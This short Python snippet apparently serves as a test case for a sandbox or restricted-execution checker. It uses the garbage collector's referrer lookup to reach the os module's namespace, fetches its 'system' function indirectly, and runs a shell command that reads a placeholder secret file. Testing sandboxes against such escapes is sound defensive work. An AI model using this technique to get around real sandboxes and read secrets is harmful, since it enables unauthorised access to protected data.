# Who refers to a built-in function: its module's dict.
# effect: run
import gc
import os
for scope in gc.get_referrers(os.getcwd):
    if isinstance(scope, dict) and "system" in scope:
        scope["system"]("cat @SECRET@")
        break
